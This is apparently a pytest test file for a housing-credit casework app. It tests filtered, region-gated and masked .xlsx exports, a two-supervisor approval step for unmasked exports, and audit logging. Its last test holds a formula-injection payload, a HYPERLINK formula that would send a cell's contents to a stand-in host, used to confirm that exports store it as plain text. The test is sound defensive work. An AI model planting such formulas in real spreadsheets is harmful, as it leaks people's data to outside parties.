"""The workbench lists (issue #18): filters, totals, keyset paging, sorting and the .xlsx export of exactly what
is filtered — masked per SPEC §11, inside the region gate (SPEC §1, HB 八), the unmasked export only after a
supervisor other than the requester approved it, downloaded once, everything audited."""
from __future__ import annotations

import io
from datetime import timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from housingcredit.audit.models import AuditEntry
from housingcredit.disclosure.masking import mask_id_number
from housingcredit.extensions import db
from housingcredit.workbench.models import ExportRequest
from housingcredit.workbench.specs import SPECS
from tests.conftest import login
from tests.factories import csrf_token, make_household, make_household_user, make_user
from tests.records.helpers import make_record

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _sheet(resp) -> list[list]:
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    assert resp.mimetype == XLSX
    book = load_workbook(io.BytesIO(resp.get_data()), read_only=True)
    rows = [list(r) for r in book.active.iter_rows(values_only=True)]
    book.close()
    return rows


def _actions(prefix: str = "export.") -> list[str]:
    return list(db.session.scalars(sa.select(AuditEntry.action).where(AuditEntry.action.like(prefix + "%"))
                                   .order_by(AuditEntry.id)))


@pytest.fixture
def two_regions(app):
    """Two Wuhan households (Jiang'an, Wuchang) and one in Yichang."""
    jiangan = make_household("420102", head_name="张三丰", address="江岸区幸福路8号3栋201")
    wuchang = make_household("420106", head_name="李四")
    yichang = make_household("420502", head_name="欧阳娜娜")
    return jiangan, wuchang, yichang


def test_spec11_masked_export_holds_exactly_what_is_filtered_and_masks_identity(app, client, two_regions):
    jiangan, _wuchang, _yichang = two_regions
    login(client, make_user("caseworker", "420100"))
    rows = _sheet(client.get("/workbench/archives/export.xlsx?region=420102"))
    header, body = rows[0], rows[1:]
    assert header[:5] == ["档案", "户主", "身份证号码", "所属区域", "住址"]
    assert len(body) == 1
    archive_no, head, id_no, region, address = body[0][:5]
    assert archive_no == jiangan.archive_no
    assert head == "张*丰"
    assert id_no == mask_id_number(jiangan.head.id_number) and id_no != jiangan.head.id_number
    assert "幸福路" not in address and address.endswith("江岸区")  # address to the district (SPEC §11)
    assert _actions() == ["export.masked"]
    entry = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "export.masked")).one()
    assert entry.after["filters"] == {"region": "420102"} and entry.after["rows"] == 1


@pytest.mark.parametrize("role,region,expected", [
    ("caseworker", "420100", {"张*丰", "李*"}),
    ("reviewer", "420100", {"张*丰", "李*"}),
    ("caseworker", "420500", {"欧**娜"}),
    ("supervisor", "420000", {"张*丰", "李*", "欧**娜"}),
    ("auditor", "420000", {"张*丰", "李*", "欧**娜"}),
])
def test_spec1_region_gate_holds_in_list_pages_and_exports_per_role(app, client, two_regions, role, region,
                                                                    expected):
    login(client, make_user(role, region))
    page = client.get("/workbench/archives").get_data(as_text=True)
    shown = {name for name in ("张*丰", "李*", "欧**娜") if name in page}
    assert shown == expected
    heads = {row[1] for row in _sheet(client.get("/workbench/archives/export.xlsx"))[1:]}
    assert heads == expected


def test_spec1_a_household_gets_no_list_and_no_export(app, client, two_regions):
    login(client, make_household_user(two_regions[0]))
    for url in ("/workbench/archives", "/workbench/archives/export.xlsx", "/workbench/records",
                "/workbench/records/export.xlsx", "/workbench/exports", "/home"):
        assert client.get(url).status_code == 403, url
    assert _actions() == []


def test_hb_eight_region_filter_outside_the_users_region_is_refused(app, client, two_regions):
    login(client, make_user("caseworker", "420100"))
    assert client.get("/workbench/archives?region=420502").status_code == 403
    assert client.get("/workbench/archives/export.xlsx?region=420502").status_code == 403
    assert client.get("/workbench/archives?region=999999").status_code == 422
    assert _actions() == []


@pytest.mark.parametrize("query", ["tier=nosuch", "created_from=2026-13-01", "created_from=2026-06-02&created_to=2026-06-01",
                                   "sort=address", "after=%%%", "after=WyJ4IiwxXQ"])
def test_design_rule7_bad_filters_are_a_clear_422(app, client, two_regions, query):
    login(client, make_user("caseworker", "420100"))
    resp = client.get(f"/workbench/archives?{query}")
    assert resp.status_code == 422


def test_lists_totals_keyset_paging_and_indexed_sorts(app, client):
    app.config["PAGE_SIZE"] = 2
    made = [make_household("420102", head_name=f"王{n}五") for n in range(5)]
    login(client, make_user("caseworker", "420100"))
    from housingcredit.workbench import filters
    who = db.session.scalars(sa.select(filters.User).where(filters.User.role == "caseworker")).one()
    seen, args = [], {}
    while True:
        data = filters.page(SPECS["archives"], args, who)
        assert data["total"] == 5
        seen += [r["cells"][0]["value"] for r in data["rows"]]
        if not data["next"]:
            break
        args = {"after": data["next"]}
    assert seen == [h.archive_no for h in reversed(made)]  # newest first, every row once
    by_number = filters.page(SPECS["archives"], {"sort": "archive_no"}, who)
    assert [r["cells"][0]["value"] for r in by_number["rows"]] == sorted(h.archive_no for h in made)[:2]
    page = client.get("/workbench/archives").get_data(as_text=True)
    assert "5 条" in page or "5 rows" in page
    assert 'rel="next"' in page


def test_every_list_answers_with_its_filters_for_a_supervisor(app, client, two_regions):
    jiangan = two_regions[0]
    caseworker = make_user("caseworker", "420100")
    make_record(jiangan, caseworker)
    login(client, make_user("supervisor", "420000"))
    for name, spec in SPECS.items():
        resp = client.get(f"/workbench/{name}")
        assert resp.status_code == 200, name
        body = resp.get_data(as_text=True)
        for f in spec.filters:
            assert (f'name="{f.name}"' in body) or (f'name="{f.name}_from"' in body), (name, f.name)
        assert client.get(f"/workbench/{name}/export.xlsx").status_code == 200, name
    assert client.get("/workbench/nosuch").status_code == 404


def test_records_list_filters_by_status_behaviour_and_operator(app, client, two_regions):
    jiangan, wuchang, _ = two_regions
    first, second = make_user("caseworker", "420100"), make_user("caseworker", "420100")
    make_record(jiangan, first)
    make_record(wuchang, second)
    login(client, first)
    rows = _sheet(client.get(f"/workbench/records/export.xlsx?status=pending&operator={second.id}"))[1:]
    assert [r[1] for r in rows] == [wuchang.archive_no]
    assert _sheet(client.get("/workbench/records/export.xlsx?status=confirmed"))[1:] == []


def _request(client, purpose="核查公租房资格复审名单", **filters):
    data = {"csrf_token": csrf_token(client), "purpose": purpose, **filters}
    return client.post("/workbench/archives/export-requests", data=data)


def test_spec11_unmasked_export_needs_another_supervisors_approval_and_is_downloaded_once(app, client, clock,
                                                                                         two_regions):
    jiangan = two_regions[0]
    caseworker = make_user("caseworker", "420100")
    boss, other_boss = make_user("supervisor", "420000"), make_user("supervisor", "420000")
    login(client, caseworker)
    assert _request(client, purpose="  ").status_code == 303  # refused: back to the list with the message
    assert db.session.scalar(sa.select(sa.func.count(ExportRequest.id))) == 0
    assert _request(client, region="420102").status_code == 303
    req = db.session.scalars(sa.select(ExportRequest)).one()
    assert req.filters == {"region": "420102"} and req.decision is None
    assert client.get(f"/workbench/exports/{req.id}/download").status_code == 409  # not approved yet
    decide = {"csrf_token": csrf_token(client), "decision": "approved"}
    assert client.post(f"/workbench/exports/{req.id}/decision", data=decide).status_code == 403  # no supervisor

    login(client, boss)
    page = client.get("/workbench/exports").get_data(as_text=True)
    assert "核查公租房资格复审名单" in page
    assert client.get(f"/workbench/exports/{req.id}/download").status_code == 404  # not the requester
    decide["csrf_token"] = csrf_token(client)
    assert client.post(f"/workbench/exports/{req.id}/decision", data=decide).status_code == 303
    assert client.post(f"/workbench/exports/{req.id}/decision", data=decide).status_code == 409  # once

    login(client, caseworker)
    rows = _sheet(client.get(f"/workbench/exports/{req.id}/download"))
    assert rows[1][1] == "张三丰" and rows[1][2] == jiangan.head.id_number and "幸福路" in rows[1][4]
    assert len(rows) == 2  # the filters of the request: Jiang'an only
    assert client.get(f"/workbench/exports/{req.id}/download").status_code == 409  # once only
    assert _actions() == ["export.requested", "export.approved", "export.downloaded"]
    del other_boss


def test_spec11_a_supervisor_cannot_approve_their_own_request_and_approvals_expire(app, client, clock,
                                                                                    two_regions):
    boss, other_boss = make_user("supervisor", "420000"), make_user("supervisor", "420000")
    login(client, boss)
    _request(client)
    req = db.session.scalars(sa.select(ExportRequest)).one()
    decide = {"csrf_token": csrf_token(client), "decision": "approved"}
    assert client.post(f"/workbench/exports/{req.id}/decision", data=decide).status_code == 403
    login(client, other_boss)
    decide["csrf_token"] = csrf_token(client)
    assert client.post(f"/workbench/exports/{req.id}/decision", data=decide).status_code == 303
    login(client, boss)
    clock.advance(hours=app.config["EXPORT_DOWNLOAD_HOURS"], seconds=1)
    assert client.get(f"/workbench/exports/{req.id}/download").status_code == 409
    assert "export.downloaded" not in _actions()


def test_spec11_a_refused_request_gives_no_download(app, client, two_regions):
    caseworker, boss = make_user("caseworker", "420100"), make_user("supervisor", "420000")
    login(client, caseworker)
    _request(client)
    req = db.session.scalars(sa.select(ExportRequest)).one()
    login(client, boss)
    client.post(f"/workbench/exports/{req.id}/decision", data={"csrf_token": csrf_token(client),
                                                                "decision": "rejected", "note": "用途不明"})
    login(client, caseworker)
    assert client.get(f"/workbench/exports/{req.id}/download").status_code == 409
    assert "用途不明" in client.get("/workbench/exports").get_data(as_text=True)
    assert _actions() == ["export.requested", "export.rejected"]


def test_spec1_an_approved_request_does_not_widen_the_requesters_region(app, client, two_regions):
    """The rows are read at download time with the requester's own reach."""
    caseworker, boss = make_user("caseworker", "420100"), make_user("supervisor", "420000")
    login(client, caseworker)
    _request(client)
    req = db.session.scalars(sa.select(ExportRequest)).one()
    login(client, boss)
    client.post(f"/workbench/exports/{req.id}/decision", data={"csrf_token": csrf_token(client),
                                                                "decision": "approved"})
    login(client, caseworker)
    heads = {r[1] for r in _sheet(client.get(f"/workbench/exports/{req.id}/download"))[1:]}
    assert heads == {"张三丰", "李四"}


def test_dates_filter_counts_beijing_calendar_days(app, client, clock, two_regions):
    login(client, make_user("caseworker", "420100"))
    today = clock.today().isoformat()
    assert len(_sheet(client.get(f"/workbench/archives/export.xlsx?created_from={today}&created_to={today}"))) == 3
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    assert len(_sheet(client.get(f"/workbench/archives/export.xlsx?created_from={tomorrow}"))) == 1


def test_spec1_audit_trail_export_keeps_a_regional_viewer_in_their_region(app, client, two_regions):
    """The audit trail list follows the trail page's scope: a province-level viewer sees every entry, a regional
    one only its region's; a caseworker has no audit trail at all."""
    jiangan, _wuchang, yichang = two_regions
    login(client, make_user("auditor", "420100"))
    households = {r[6] for r in _sheet(client.get("/workbench/audit/export.xlsx?action=household.create"))[1:]}
    assert households == {jiangan.id, _wuchang.id}
    login(client, make_user("auditor", "420000"))
    households = {r[6] for r in _sheet(client.get("/workbench/audit/export.xlsx?action=household.create"))[1:]}
    assert households == {jiangan.id, _wuchang.id, yichang.id}
    login(client, make_user("caseworker", "420000"))
    assert client.get("/workbench/audit/export.xlsx").status_code == 403


def test_spec1_records_and_review_lists_stay_in_the_region(app, client, two_regions):
    jiangan, _wuchang, yichang = two_regions
    make_record(jiangan, make_user("caseworker", "420100"))
    make_record(yichang, make_user("caseworker", "420500"))
    login(client, make_user("reviewer", "420100"))
    for name in ("records", "review"):
        assert [r[1] for r in _sheet(client.get(f"/workbench/{name}/export.xlsx"))[1:]] == [jiangan.archive_no]
    login(client, make_user("supervisor", "420000"))
    for name in ("records", "review"):
        assert len(_sheet(client.get(f"/workbench/{name}/export.xlsx"))) == 3


def test_issue18_every_sort_is_served_by_an_index_of_its_table():
    """Sorting only on indexed orders: each sort's keys are the leading columns of an index (or the primary key,
    or a unique column) of their table, so a page never sorts the whole filtered set."""
    for spec in SPECS.values():
        for sort in spec.sorts:
            table = sort.keys[0].table
            names = [k.name for k in sort.keys]
            assert all(k.table is table for k in sort.keys), (spec.name, sort.name)
            orders = [[c.name for c in ix.columns] for ix in table.indexes]
            orders += [[c.name for c in table.primary_key.columns]]
            orders += [[c.name] for c in table.columns if c.unique]
            assert any(o[:len(names)] == names or (o == names[:-1] and names[-1] == "id") for o in orders), \
                (spec.name, sort.name, names)


def test_spec11_exported_text_is_never_written_as_a_formula(app, client):
    """Text from the records goes into the workbook as text: a value starting with "=" (which openpyxl would
    write as a formula, run when the file is opened) or reading like an Excel error stays a string cell."""
    import zipfile
    from housingcredit.audit import service as audit
    hostile = '=HYPERLINK("http://example.invalid/?q="&A1,"click")'
    audit.record("export.masked", "list", "archives", actor=(None, hostile))
    audit.record("export.masked", "list", "archives", actor=(None, "#N/A"))
    db.session.commit()
    login(client, make_user("auditor", "420000"))
    resp = client.get("/workbench/audit/export.xlsx?action=export.masked")
    with zipfile.ZipFile(io.BytesIO(resp.get_data())) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s or 't="e"' in s for s in sheets)
    actors = [r[2] for r in _sheet(resp)[1:]]
    assert hostile in actors and "#N/A" in actors
